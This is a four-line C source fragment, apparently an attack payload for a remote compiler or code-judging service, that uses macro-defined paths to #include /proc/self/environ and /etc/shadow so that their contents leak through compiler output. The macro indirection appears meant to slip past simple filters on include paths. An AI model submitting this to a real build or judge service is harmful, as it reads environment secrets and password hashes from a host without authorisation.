#define FROM "/proc/self/environ"
#include FROM
#define AND "/etc/shadow"
#include AND
